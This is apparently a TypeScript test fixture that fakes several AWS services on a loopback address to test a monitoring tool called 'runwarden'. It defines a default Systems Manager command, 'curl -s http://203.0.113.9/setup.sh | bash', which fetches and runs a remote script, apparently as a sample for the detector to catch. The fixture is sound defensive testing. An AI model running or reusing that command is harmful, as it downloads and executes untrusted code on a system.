import { createFaultPlan, serveUnderPlan, type FaultPlan } from '../../emulators/fault-plan'
import { startLoopbackServer } from '../../emulators/loopback-server'
import { recognizeCall } from '../../emulators/service-call'
import { jsonAnswer, jsonError, queryResult, type WireAnswer } from '../../emulators/wire-answer'
import { fakeQueues, type FakeQueues, type QueueInput } from './fake-queue'
import { fakeTable, type FakeTable, type TableInput } from './fake-table'

/** One call of a service, as it came in. */
export interface SeenCall {
  readonly operation: string
  /** Milliseconds since the epoch, with fractions, comparable over processes. */
  readonly at: number
}

/** One message that a topic took. */
export interface Publication {
  readonly topic: string
  readonly message: string
  /** Value of the attribute `kind`. */
  readonly kind: string
  readonly at: number
  /** Whether the publisher learned that it was taken. */
  answered: boolean
}

export interface FakeServicesOptions {
  readonly faults?: FaultPlan
  /** Command text by command id. */
  readonly scriptOf?: (commandId: string) => string
  readonly onCall?: (call: SeenCall) => void
  readonly onPublication?: (publication: Publication) => void
}

export interface FakeServices {
  readonly endpoint: string
  /** Environment by which the function and the SDK find everything here. */
  readonly environment: Readonly<Record<string, string>>
  readonly table: FakeTable
  readonly queues: FakeQueues
  readonly quarantineUrl: string
  readonly failureUrl: string
  readonly stop: () => Promise<void>
}

export const wallTime = (): number => performance.timeOrigin + performance.now()

export const MAIL_TOPIC = 'arn:aws:sns:us-east-1:123456789012:alerts'

const SCRIPT = 'curl -s http://203.0.113.9/setup.sh | bash'

/**
 * DynamoDB, SNS, SQS, Systems Manager and CloudTrail on one loopback address, as quick as a program can be: every
 * command that is asked for exists, every publication is taken. Calls fail by the plan, if there is one.
 */
export const startFakeServices = async (options: FakeServicesOptions = {}): Promise<FakeServices> => {
  const { faults = createFaultPlan(), scriptOf = () => SCRIPT, onCall, onPublication } = options
  const table = fakeTable()
  const queues = fakeQueues()

  const publish = (body: Buffer, at: number): Publication => {
    const form = new URLSearchParams(body.toString('utf8'))
    const place = [...form].find(([name, value]) => name.endsWith('.Name') && value === 'kind')?.[0] ?? ''
    const kind = form.get(place.replace(/Name$/, 'Value.StringValue')) ?? ''
    const publication = {
      topic: form.get('TopicArn') ?? '',
      message: form.get('Message') ?? '',
      kind,
      at,
      answered: false,
    }
    onPublication?.(publication)
    return publication
  }

  const serve = (service: string, operation: string, body: Buffer): WireAnswer => {
    const input = JSON.parse(body.toString('utf8')) as TableInput & QueueInput & { readonly CommandId?: string }
    switch (service) {
      case 'dynamodb': {
        const answer = table.answer(operation, input)
        return answer.ok
          ? jsonAnswer(200, answer.value)
          : jsonError(
              'com.amazonaws.dynamodb.v20120810#ConditionalCheckFailedException',
              'The conditional request failed',
            )
      }
      case 'sqs':
        return jsonAnswer(200, queues.answer(operation, input))
      case 'cloudtrail':
        return jsonAnswer(200, { trailList: [] })
      default:
        return jsonAnswer(200, {
          Commands: [
            {
              CommandId: input.CommandId,
              DocumentName: 'AWS-RunShellScript',
              Parameters: { commands: [scriptOf(input.CommandId ?? '')] },
            },
          ],
        })
    }
  }

  const server = await startLoopbackServer(async (request, body, response) => {
    const call = recognizeCall(request, body)
    const at = wallTime()
    onCall?.({ operation: call.operation, at })
    let publication: Publication | undefined
    await serveUnderPlan(faults, call, response, () => {
      if (call.service !== 'sns') return serve(call.service, call.operation.slice(call.service.length + 1), body)
      publication = publish(body, at)
      return queryResult('Publish', '<MessageId>00000000-0000-0000-0000-000000000001</MessageId>')
    })
    if (publication !== undefined) publication.answered = response.writableEnded && !request.socket.destroyed
  })
  const [quarantineUrl, failureUrl] = [
    `${server.endpoint}/123456789012/quarantine`,
    `${server.endpoint}/123456789012/failures`,
  ]
  return {
    endpoint: server.endpoint,
    environment: {
      RUNWARDEN_TABLE: 'runwarden',
      RUNWARDEN_TOPIC_ARN: MAIL_TOPIC,
      RUNWARDEN_QUARANTINE_QUEUE_URL: quarantineUrl,
      RUNWARDEN_INSTALLED_AT: '2026-01-01T00:00:00.000Z',
      RUNWARDEN_LEARNING_DAYS: '0',
      RUNWARDEN_MAX_ALERTS_PER_HOUR: '1000',
      AWS_REGION: 'us-east-1',
      AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
      AWS_SECRET_ACCESS_KEY: 'example',
      AWS_ENDPOINT_URL: server.endpoint,
    },
    table,
    queues,
    quarantineUrl,
    failureUrl,
    stop: () => server.stop(),
  }
}
